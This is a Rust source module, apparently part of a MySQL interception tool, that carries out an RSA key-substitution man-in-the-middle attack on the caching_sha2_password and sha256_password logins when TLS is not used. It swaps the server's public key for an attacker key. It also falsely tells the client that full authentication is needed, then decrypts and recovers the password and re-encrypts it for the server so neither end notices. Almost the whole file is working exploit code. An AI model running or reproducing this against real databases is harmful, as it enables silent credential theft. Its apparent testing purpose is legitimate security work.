//! RSA keys substituted: a password plugin that encrypts for whatever key it is shown.
//!
//! `caching_sha2_password` and `sha256_password` encrypt the password, mixed with the nonce, with the public key that the
//! server sends, where there is no TLS. Nothing binds the key to the server, so whoever stands between sends his own, opens
//! what comes back, and encrypts it anew for the server: neither end notices. Where the server is content with the scramble
//! (`0x03`: it has seen the password lately), the client is told that it wants more.
//!
//! Source: MySQL source documentation, "Caching_sha2_password"; the messages: 1 3 enough, 1 4 the password is wanted,
//! 2 (and 1 of sha256_password) the key is wanted, 1 and a PEM the key.

use openssl::pkey::{Private, Public};
use openssl::rsa::{Padding, Rsa};
use secrecy::{ExposeSecret, SecretString};
use zeroize::Zeroizing;

use super::frames::{framed, payload, reframed, sequence};

const PEM_BEGINS: &[u8] = b"-----BEGIN";
const FAST_ENOUGH: &[u8] = &[1, 3];
const WANTS_PASSWORD: &[u8] = &[1, 4];
const ASKS_FOR_KEY: [&[u8]; 2] = [&[2], &[1]];
/// Frames of the server that wait until the client has given its password: one OK.
const HELD_BYTES_MAX: usize = 64 << 10;

/// The attacker's pair.
pub struct Keys {
    private: Rsa<Private>,
    pem: Vec<u8>,
}

impl Keys {
    /// # Errors
    /// OpenSSL without random numbers.
    pub fn generate() -> Result<Self, openssl::error::ErrorStack> {
        Self::from_private(Rsa::generate(2048)?)
    }

    /// # Errors
    /// A key that OpenSSL cannot write.
    pub fn from_private(private: Rsa<Private>) -> Result<Self, openssl::error::ErrorStack> {
        let pem = private.public_key_to_pem()?;
        Ok(Self { private, pem })
    }
}

/// What became of the password.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum KeyTaken {
    /// No password was encrypted.
    #[default]
    NotTried,
    /// The client was shown our key, and gave no password.
    Refused,
    /// It encrypted for a key that it knew before.
    KnowsTheKey,
    /// It was opened; `Some`: compared with the one that was given.
    Taken(Option<bool>),
    /// It was sent in cleartext, without any key.
    TakenInClear(Option<bool>),
}

impl KeyTaken {
    pub fn id(self) -> &'static str {
        match self {
            Self::NotTried => "not-tried",
            Self::Refused => "refused",
            Self::KnowsTheKey => "knows-the-key",
            Self::Taken(_) => "password-taken",
            Self::TakenInClear(_) => "password-in-clear",
        }
    }

    pub fn is_taken(self) -> bool {
        matches!(self, Self::Taken(_) | Self::TakenInClear(_))
    }

    /// Whether it is the password that was given.
    pub fn matches(self) -> Option<bool> {
        match self {
            Self::Taken(is_right) | Self::TakenInClear(is_right) => is_right,
            _ => None,
        }
    }
}

/// One turn of the client.
#[derive(Default)]
pub struct Turn {
    pub to_server: Zeroizing<Vec<u8>>,
    pub to_client: Vec<u8>,
    pub taken: Option<KeyTaken>,
    pub is_substituted: bool,
    /// The login was over before, for the server.
    pub is_released: bool,
}

/// Where the exchange of one login stands.
#[derive(Default)]
pub struct Substitution {
    /// The server was content; the client was told that it is not, and the rest of the server's words waits.
    held: Option<Vec<u8>>,
    /// The client has answered, and counts on from here: what is held, and what comes, is numbered anew.
    next_number: Option<u8>,
    server_key: Option<Rsa<Public>>,
    /// The password is wanted, so what the client says next is a question for the key, or the password.
    is_wanted: bool,
    is_shown: bool,
}

impl Substitution {
    pub fn is_holding(&self) -> bool {
        self.held.is_some()
    }

    /// The password was wanted, and nothing came.
    pub fn is_unanswered(&self) -> bool {
        self.is_wanted
    }

    /// What is held, when nobody waits for it any more.
    pub fn release(&mut self) -> Vec<u8> {
        self.held.take().unwrap_or_default()
    }

    /// What the client is given in place of the server's frame, and whether our key is in it.
    pub fn from_server(&mut self, keys: &Keys, frame: Vec<u8>) -> (Vec<u8>, bool) {
        if let Some(held) = &mut self.held {
            held.extend_from_slice(&frame);
            let is_over = held.len() > HELD_BYTES_MAX;
            let given = self.renumbered();
            return (if is_over { [given, self.release()].concat() } else { given }, false);
        }
        match payload(&frame) {
            FAST_ENOUGH => {
                self.held = Some(Vec::new());
                self.is_wanted = true;
                (framed(sequence(&frame), WANTS_PASSWORD), false)
            }
            WANTS_PASSWORD => {
                self.is_wanted = true;
                (frame, false)
            }
            [1, pem @ ..] if pem.starts_with(PEM_BEGINS) => {
                self.server_key = Rsa::public_key_from_pem(pem).ok();
                self.is_wanted = true;
                self.is_shown = true;
                let ours = [&[1], keys.pem.as_slice()].concat();
                (reframed(&frame, &ours).unwrap_or(frame), true)
            }
            _ => (frame, false),
        }
    }

    /// What is held, numbered as the client counts, once it has answered. The server's part of the login is over with it.
    fn renumbered(&mut self) -> Vec<u8> {
        let (Some(held), Some(number)) = (&self.held, &mut self.next_number) else { return vec![] };
        let (mut frames, mut given) = (super::frames::Framed::default(), Vec::new());
        frames.push(held);
        while let Some(frame) = frames.next_frame() {
            given.extend(framed(*number, payload(&frame)));
            *number = number.wrapping_add(1);
        }
        if !given.is_empty() {
            self.held = None;
        }
        given
    }

    pub fn from_client(
        &mut self,
        keys: &Keys,
        password: Option<&SecretString>,
        nonce: &[u8],
        frame: &[u8],
    ) -> Turn {
        let answer = payload(frame);
        let unchanged = || Turn { to_server: Zeroizing::new(frame.to_vec()), ..Turn::default() };
        if !self.is_wanted {
            return unchanged();
        }
        if ASKS_FOR_KEY.contains(&answer) {
            if !self.is_holding() {
                return unchanged();
            }
            self.is_shown = true;
            let ours = [&[1], keys.pem.as_slice()].concat();
            let to_client = framed(sequence(frame).wrapping_add(1), &ours);
            return Turn {
                to_client,
                is_substituted: true,
                taken: Some(KeyTaken::Refused),
                ..Turn::default()
            };
        }
        self.is_wanted = false;
        let opened = open(keys, answer).filter(|_| self.is_shown);
        let is_key_sized = answer.len() >= 128;
        let taken = match &opened {
            Some(mixed) => KeyTaken::Taken(compare(&mix(mixed, nonce), password)),
            None if is_key_sized => KeyTaken::KnowsTheKey,
            // Without a key: the password and a zero.
            None if answer.len() > 1 => KeyTaken::TakenInClear(compare(answer, password)),
            None => KeyTaken::Refused,
        };
        if self.is_holding() {
            // The server lets it in with fewer turns; its word may be here already, or come.
            self.next_number = Some(sequence(frame).wrapping_add(1));
            let to_client = self.renumbered();
            let is_released = !to_client.is_empty();
            return Turn { to_client, taken: Some(taken), is_released, ..Turn::default() };
        }
        let again = opened.and_then(|mixed| {
            let sealed = seal(self.server_key.as_ref()?, &mixed)?;
            reframed(frame, &sealed)
        });
        let to_server = Zeroizing::new(again.unwrap_or_else(|| frame.to_vec()));
        Turn { to_server, taken: Some(taken), ..Turn::default() }
    }
}

/// What was encrypted for us: still mixed with the nonce.
fn open(keys: &Keys, sealed: &[u8]) -> Option<Zeroizing<Vec<u8>>> {
    if sealed.len() != keys.private.size() as usize {
        return None;
    }
    let mut mixed = Zeroizing::new(vec![0; sealed.len()]);
    let bytes = keys.private.private_decrypt(sealed, &mut mixed, Padding::PKCS1_OAEP).ok()?;
    mixed.truncate(bytes);
    Some(mixed)
}

fn seal(key: &Rsa<Public>, mixed: &[u8]) -> Option<Vec<u8>> {
    let mut sealed = vec![0; key.size() as usize];
    let bytes = key.public_encrypt(mixed, &mut sealed, Padding::PKCS1_OAEP).ok()?;
    sealed.truncate(bytes);
    Some(sealed)
}

fn mix(mixed: &[u8], nonce: &[u8]) -> Zeroizing<Vec<u8>> {
    Zeroizing::new(mixed.iter().zip(nonce.iter().cycle()).map(|(byte, nonce)| byte ^ nonce).collect())
}

fn compare(bytes: &[u8], password: Option<&SecretString>) -> Option<bool> {
    let password = password?;
    Some(bytes.strip_suffix(&[0]).unwrap_or(bytes) == password.expose_secret().as_bytes())
}
